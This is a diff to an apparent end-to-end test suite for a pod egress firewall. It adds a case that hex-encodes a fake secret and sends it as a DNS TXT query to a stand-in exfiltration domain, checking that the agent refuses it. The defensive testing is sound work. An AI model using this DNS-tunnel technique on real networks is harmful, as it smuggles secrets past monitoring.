@@ -70,9 +70,19 @@ suite_setup() {
 
 	policy_cidr atk e2e app=atk enforce "$SRV_A/32:443/TCP $SRV_A/32:9999/UDP $SRV6_A/128:443/TCP"
 	fq_policy fq fq
+	# Names fq may resolve without being granted them: the CNAME cases check
+	# the answer-level rules (nothing learned from them), not the name filter.
+	policy_write fq-resolve "apiVersion: podwall.io/v1alpha1
+kind: EgressPolicy
+metadata: {name: fq-resolve, namespace: e2e}
+spec:
+  podSelector: {matchLabels: {app: fq}}
+  dns:
+    resolveNames: [{matchName: cn-evil.example.test}, {matchName: cnx.example.test}]"
 	agent_start --resolver "$RDNS4" --resolver "$XDNS4" || fail "agent did not start"
 	wait_until 5 policy_loaded atk || fail "policy atk not loaded"
 	wait_until 5 policy_loaded fq || fail "policy fq not loaded"
+	wait_until 5 policy_loaded fq-resolve || fail "policy fq-resolve not loaded"
 	cni_add h e2e h-0 app=atk || fail "pod h"
 	cni_add h2 e2e h2-0 app=atk || fail "pod h2"
 	cni_add fq e2e fq-0 app=fq || fail "pod fq"
@@ -268,6 +278,41 @@ dns_untrusted_server() {
 	allowed_still_works
 }
 
+# A DNS tunnel: a TXT query for <hex of a secret>.exfil.test through the
+# trusted resolver would reach the attacker's authoritative server. From a
+# selected pod it never reaches the resolver (its query log stays clean) and
+# the pod gets REFUSED from the node at once; the same query from the open
+# pod does reach it (the control: the log does record such queries). A
+# search-list expansion of an allowed name gets NXDOMAIN, the allowed name
+# still resolves.
+dns_tunnel_refused() {
+	local secret ctl st n0 n1 t0 t1
+	secret=$(printf 'podwall-secret-%s' "$RANDOM" | od -An -tx1 | tr -d ' \n')
+	ctl="$secret-ctl.exfil.test"
+	in_pod free timeout 10 dig +time=2 +tries=1 @"$RDNS4" "$ctl" TXT >/dev/null 2>&1 || true
+	wait_until 5 grep -q "query\[TXT\] $ctl" "$TMP/rdns.log" ||
+		fail "control: the open pod's TXT query is not in the resolver's log"
+	n0=$(grep -c 'query\[' "$TMP/rdns.log")
+	t0=$(date +%s%N)
+	st=$(in_pod fq timeout 10 dig +time=2 +tries=1 @"$RDNS4" "$secret.exfil.test" TXT 2>&1 |
+		sed -n 's/.*status: \([A-Z]*\).*/\1/p')
+	t1=$(date +%s%N)
+	[ "$st" = REFUSED ] || fail "the exfil query got status '${st:-none}', not REFUSED"
+	e2e_log "exfil query answered REFUSED by the node in $(((t1 - t0) / 1000000)) ms (dig included)"
+	st=$(in_pod fq timeout 10 dig +time=2 +tries=1 @"$RDNS4" \
+		allowed.example.test.e2e.svc.cluster.local A 2>&1 | sed -n 's/.*status: \([A-Z]*\).*/\1/p')
+	[ "$st" = NXDOMAIN ] || fail "a search-list expansion got '${st:-none}', not NXDOMAIN"
+	[ "$(qry fq "$RDNS4" allowed.example.test)" = "$SRV_A" ] ||
+		fail "the allowed name no longer resolves"
+	sleep 0.5
+	grep -q "$secret.exfil.test" "$TMP/rdns.log" && fail "BYPASS: the exfil query reached the resolver"
+	grep -q 'cluster.local' "$TMP/rdns.log" && fail "the search-list expansion reached the resolver"
+	n1=$(grep -c 'query\[' "$TMP/rdns.log")
+	[ $((n1 - n0)) -eq 1 ] || fail "the resolver saw $((n1 - n0)) queries from fq, expected 1 (the allowed name)"
+	wait_until 3 ev_seen drop "$RDNS4" 53 dns-name || fail "no dns-name event"
+	allowed_still_works
+}
+
 dot_doh_not_allowed() {
 	local ip p dst
 	ip=$(pod_ip4 h)
@@ -325,6 +370,8 @@ ipv6_to_v4_learned() {
 	expect_blocked "IPv6 to ::ffff:$SRV_B" "$id2"
 	expect_blocked "IPv6 to ::$SRV_A" "$id3"
 	[ "$(counter drop_v4-mapped)" -gt "$d0" ] || fail "drop_v4-mapped did not count"
+	# resolved again: the frames above take longer than the 5 s --min-ttl
+	[ "$(qry fq "$DNS4" allowed.example.test)" = "$SRV_A" ] || fail "fq cannot resolve allowed.example.test"
 	assert_ok connect fq "$SRV_A" 443
 }
 
@@ -541,7 +588,7 @@ connect_after_ttl_expired() {
 }
 
 CASES="spoofed_source_v4 spoofed_source_v6 ipv4_fragments ipv4_options ipv6_extension_headers
-vlan_tagged_frames dns_untrusted_server dot_doh_not_allowed icmp_udp_not_granted ipv6_to_v4_learned
+vlan_tagged_frames dns_untrusted_server dns_tunnel_refused dot_doh_not_allowed icmp_udp_not_granted ipv6_to_v4_learned
 forged_dns_answers dns_additional_and_stray_records dns_cname_unallowed_to_allowed dns_special_addresses
 pod_reuses_address_deleted_while_agent_down pod_reuses_deleted_address connect_after_ttl_expired
 sanitizers_clean"
